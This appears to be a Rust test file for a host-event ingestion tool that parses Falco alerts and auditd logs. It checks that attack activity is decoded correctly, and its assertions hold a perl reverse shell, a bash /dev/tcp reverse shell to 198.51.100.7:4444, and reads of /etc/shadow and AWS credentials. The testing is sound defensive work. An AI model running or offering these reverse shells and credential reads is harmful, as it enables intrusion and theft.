//! Falco alerts and auditd logs into host events: the real audit logs in
//! `../shared/data/auditd` (a perl reverse shell, an exploit's process tree, connects, binds) and
//! the Falco and auditd fixtures here.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use vigil_ingest::{
    FileOutcome, HostFormat, IngestReport, Limits, read_host_file, sniff_host_format,
};
use vigil_model::host::{Direction, FileAccessKind, Process};
use vigil_model::{EventSource, HostEventKind};

fn laurel() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/auditd/laurel-auditd/src/testdata");
    assert!(
        dir.is_dir(),
        "the real auditd logs are missing: expected {} (../shared/data, see its README)",
        dir.display()
    );
    dir
}

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(rel)
}

fn read(path: &Path) -> FileOutcome {
    read_host_file(path, &Limits::default())
}

fn starts(o: &FileOutcome) -> Vec<Process> {
    o.events
        .iter()
        .filter_map(|e| match &e.host()?.kind {
            HostEventKind::ProcessStart { process } => Some(process.clone()),
            _ => None,
        })
        .collect()
}

fn skip_codes(o: &FileOutcome) -> Vec<String> {
    o.skips.iter().map(|s| s.reason.code()).collect()
}

#[test]
fn perl_reverse_shell_argv_is_decoded() {
    let o = read(&laurel().join("record-perl-reverse-shell.txt"));
    assert!(o.skips.is_empty(), "{:?}", o.skips);
    let p = starts(&o);
    assert_eq!(p.len(), 1);
    let p = &p[0];
    assert_eq!((p.pid, p.ppid, p.uid, p.euid), (724395, 722076, 0, 0));
    assert_eq!(p.exe, "/usr/bin/perl");
    assert_eq!(p.argv[..2], ["perl", "-e"]);
    // The script was hex-encoded in the log (it has spaces and quotes).
    assert!(
        p.argv[2].starts_with("use Socket;$i=\"10.0.0.1\";$p=1234;"),
        "{}",
        p.argv[2]
    );
    assert!(p.argv[2].contains("exec(\"/bin/sh -i\")"));
    assert_eq!(p.cwd.as_deref(), Some("/root"));
    assert_eq!(
        p.user.as_deref(),
        Some("root"),
        "from the enrichment UID=\"root\""
    );
    let e = &o.events[0];
    assert_eq!(e.source, EventSource::Auditd);
    assert_eq!(e.id, "auditd-unknown-host-1626611363.720:348501");
    assert_eq!(e.time.to_string(), "2021-07-18T12:29:23.720Z");
}

#[test]
fn weblogic_exploit_and_long_arguments() {
    let o = read(&laurel().join("record-weblogic.txt"));
    let p = starts(&o);
    assert_eq!(p.len(), 1);
    assert_eq!(p[0].exe, "/usr/java/jdk1.8.0_151/bin/java");
    assert_eq!(p[0].argv.len(), 14);
    assert_eq!(p[0].argv[13], "weblogic.Server");
    assert_eq!(
        p[0].cwd.as_deref(),
        Some("/u01/oracle/user_projects/domains/base_domain")
    );

    // An argument of 8 KiB (16,384 hex digits) split over several EXECVE records comes back
    // whole, as laurel's own expected output has it.
    let o = read(&laurel().join("record-execve-long.txt"));
    let p = starts(&o);
    assert_eq!(p.len(), 1);
    assert_eq!(p[0].argv.len(), 2);
    assert_eq!(p[0].argv[1].len(), 8192);
    assert!(p[0].argv[1].starts_with("baaa"));
}

#[test]
fn process_tree_of_a_shell_script_even_when_records_interleave() {
    for name in ["shell-proc-trace.txt", "shell-proc-trace-reordered.txt"] {
        let o = read(&laurel().join(name));
        let p = starts(&o);
        let find = |exe: &str| {
            p.iter()
                .find(|p| p.exe == exe)
                .unwrap_or_else(|| panic!("{name}: {exe} in {p:#?}"))
        };
        let script = find("/usr/bin/dash");
        let grep = find("/usr/bin/grep");
        let echo = find("/usr/bin/echo");
        assert_eq!(grep.ppid, script.pid, "{name}");
        // echo runs in a subshell forked from the script (a fork without exec).
        assert_ne!(echo.ppid, script.pid, "{name}");
        // The forks themselves (clone) are reported as unsupported, not silently dropped.
        assert!(
            skip_codes(&o)
                .iter()
                .all(|c| c == "unsupported:auditd_syscall"),
            "{name}: {:?}",
            o.skips
        );
    }
}

#[test]
fn apt_get_tree_over_seventeen_files() {
    let mut report = IngestReport::new();
    let mut all = Vec::new();
    for i in 0..17 {
        let o = read(&laurel().join(format!("tree/{i:02}.txt")));
        report.add_file(&o);
        all.extend(starts(&o));
    }
    let apt = all
        .iter()
        .find(|p| p.argv == ["apt-get", "update"])
        .expect("apt-get update");
    assert_eq!(apt.user.as_deref(), Some("root"));
    // Every other process of the run descends from apt-get (directly or through a child).
    let children: Vec<&Process> = all.iter().filter(|p| p.ppid == apt.pid).collect();
    assert!(!children.is_empty());
    assert_eq!(report.files_read, 17);
    assert_eq!(report.events, all.len() as u64);
}

#[test]
fn connects_and_binds() {
    let o = read(&laurel().join("record-connect.txt"));
    let nets: Vec<_> = o
        .events
        .iter()
        .filter_map(|e| match &e.host()?.kind {
            HostEventKind::Network {
                direction,
                dst_ip,
                dst_port,
                process,
                ..
            } => Some((*direction, dst_ip.clone(), *dst_port, process.exe.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(
        nets,
        vec![
            (
                Direction::Connect,
                "127.0.0.1".into(),
                11211,
                Some("/usr/bin/php".into())
            ),
            (
                Direction::Connect,
                "::1".into(),
                11211,
                Some("/usr/bin/php".into())
            ),
        ]
    );
    // A big-endian (ppc64) bind of nc listening on 55555.
    let o = read(&laurel().join("record-bind-ipv4-bigendian.txt"));
    assert!(matches!(
        &o.events[0].host().unwrap().kind,
        HostEventKind::Network {
            direction: Direction::Listen,
            src_port: 55555,
            ..
        }
    ));
    // A unix socket connect is not a network event.
    let o = read(&laurel().join("record-nscd.txt"));
    assert!(o.events.is_empty());
    assert_eq!(skip_codes(&o), ["unsupported:unix_socket"]);
}

#[test]
fn every_real_log_reads_without_invalid_records_and_ids_are_stable() {
    let dir = laurel();
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .chain(std::fs::read_dir(dir.join("tree")).unwrap())
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "txt") && !p.ends_with("README.txt"))
        .collect();
    files.sort();
    assert!(files.len() >= 35, "{} files", files.len());
    let mut report = IngestReport::new();
    for f in &files {
        assert_eq!(
            sniff_host_format(&std::fs::read(f).unwrap()),
            HostFormat::Auditd,
            "{}",
            f.display()
        );
        let a = read(f);
        let b = read(f);
        assert_eq!(a.events, b.events, "idempotent ids: {}", f.display());
        for code in skip_codes(&a) {
            assert!(code.starts_with("unsupported:"), "{}: {code}", f.display());
        }
        report.add_file(&a);
    }
    // 155 kernel events: 52 become host events, the rest are forks, reads, writes and other
    // syscalls or record types that have no host event kind (each counted under its reason).
    assert_eq!((report.records_read, report.events), (155, 52), "{report}");
    assert!(report.skipped("unsupported:auditd_syscall") > 0);
}

#[test]
fn auditd_fixture_covers_login_file_read_setuid_and_bad_lines() {
    let o = read(&fixture("auditd/host-story.log"));
    let kinds: Vec<&str> = o
        .events
        .iter()
        .map(|e| e.host().unwrap().kind.name())
        .collect();
    assert_eq!(
        kinds,
        [
            "login",
            "process_start",
            "network",
            "file_access",
            "privilege_change"
        ]
    );
    assert!(
        o.events
            .iter()
            .all(|e| e.host().unwrap().host_id == "web-1")
    );
    assert_eq!(o.events[0].id, "auditd-web-1-1714564790.100:5001");
    let k = |i: usize| o.events[i].host().unwrap().kind.clone();
    assert_eq!(
        k(0),
        HostEventKind::Login {
            user: "1000".into(),
            method: "ssh".into(),
            source_ip: Some("203.0.113.9".into()),
            success: true
        }
    );
    let HostEventKind::ProcessStart { process } = k(1) else {
        panic!()
    };
    assert_eq!(
        process.argv,
        ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]
    );
    assert_eq!(
        (process.uid, process.cwd.as_deref()),
        (33, Some("/var/www"))
    );
    let HostEventKind::Network {
        direction,
        dst_ip,
        dst_port,
        process,
        ..
    } = k(2)
    else {
        panic!()
    };
    assert_eq!(
        (direction, dst_ip.as_str(), dst_port, process.pid),
        (Direction::Connect, "198.51.100.7", 4444, 4300)
    );
    let HostEventKind::FileAccess {
        path,
        access,
        process,
    } = k(3)
    else {
        panic!()
    };
    assert_eq!(path, "/home/deploy/.aws/credentials");
    assert_eq!(access, FileAccessKind::Read);
    assert_eq!(process.exe.as_deref(), Some("/usr/bin/cat"));
    let HostEventKind::PrivilegeChange {
        old_uid,
        new_uid,
        via,
        ..
    } = k(4)
    else {
        panic!()
    };
    assert_eq!((old_uid, new_uid, via.as_deref()), (33, 0, Some("exploit")));
    let mut codes = skip_codes(&o);
    codes.sort();
    assert_eq!(codes, ["invalid_record", "unsupported:unix_socket"]);
    assert_eq!(o.records, 7);
}

#[test]
fn falco_alerts() {
    let file = fixture("falco/alerts.jsonl");
    assert_eq!(
        sniff_host_format(&std::fs::read(&file).unwrap()),
        HostFormat::Falco
    );
    let o = read(&file);
    assert_eq!(o.records, 9);
    let mut codes = skip_codes(&o);
    codes.sort();
    assert_eq!(
        codes,
        [
            "invalid_json",
            "missing_field:hostname",
            "unsupported:falco_event",
            "unsupported:falco_source"
        ]
    );
    assert!(o.events.iter().all(|e| e.source == EventSource::Falco
        && e.host().unwrap().host_id == "ip-10-0-1-15"
        && e.id.starts_with("vigil-")));
    let k = |i: usize| o.events[i].host().unwrap().kind.clone();
    let HostEventKind::ProcessStart { process } = k(0) else {
        panic!()
    };
    assert_eq!((process.pid, process.ppid, process.uid), (4300, 4299, 0));
    assert_eq!(process.exe, "/usr/bin/bash");
    assert_eq!(process.argv, ["bash", "-i"]);
    assert_eq!(process.container_id.as_deref(), Some("3f2a9c1e5b7d"));
    assert_eq!(process.image.as_deref(), Some("nginx:1.25"));
    assert_eq!(process.cwd.as_deref(), Some("/var/www/"));
    assert_eq!(o.events[0].time.to_string(), "2024-05-01T12:00:00.123Z");
    assert_eq!(
        k(1),
        HostEventKind::FileAccess {
            path: "/etc/shadow".into(),
            access: FileAccessKind::Read,
            process: vigil_model::host::ProcessRef {
                pid: 4301,
                exe: Some("/usr/bin/cat".into()),
                uid: Some(0),
                container_id: Some("3f2a9c1e5b7d".into())
            }
        }
    );
    let HostEventKind::Network {
        direction,
        src_ip,
        src_port,
        dst_ip,
        dst_port,
        process,
        ..
    } = k(2)
    else {
        panic!()
    };
    assert_eq!(
        (
            direction,
            src_ip.as_str(),
            src_port,
            dst_ip.as_str(),
            dst_port,
            process.uid
        ),
        (
            Direction::Connect,
            "172.17.0.2",
            43210,
            "198.51.100.7",
            4444,
            Some(33)
        )
    );
    let HostEventKind::Network {
        dst_ip,
        dst_port,
        src_port,
        process,
        ..
    } = k(3)
    else {
        panic!()
    };
    assert_eq!(
        (dst_ip.as_str(), dst_port, src_port),
        ("169.254.169.254", 80, 51234)
    );
    assert_eq!(process.container_id, None, "`host` is not a container");
    let HostEventKind::FileAccess { path, access, .. } = k(4) else {
        panic!()
    };
    assert_eq!(
        (path.as_str(), access),
        ("/sys/fs/cgroup/rdma/release_agent", FileAccessKind::Write)
    );
    // Re-reading gives the same ids.
    assert_eq!(read(&file).events, o.events);
}

#[test]
fn agent_lines_are_still_agent_lines() {
    let line = br#"{"id":"h-1","time":"2024-05-01T12:00:00Z","source":"agent","host":{"host_id":"i-1","kind":"login","user":"u","method":"ssh_publickey","success":true}}"#;
    assert_eq!(sniff_host_format(line), HostFormat::Agent);
    let o = vigil_ingest::parse_host_any(line, &vigil_ingest::FileContext::new(&Limits::default()));
    assert_eq!(o.events.len(), 1);
    assert_eq!(o.events[0].source, EventSource::Agent);
}
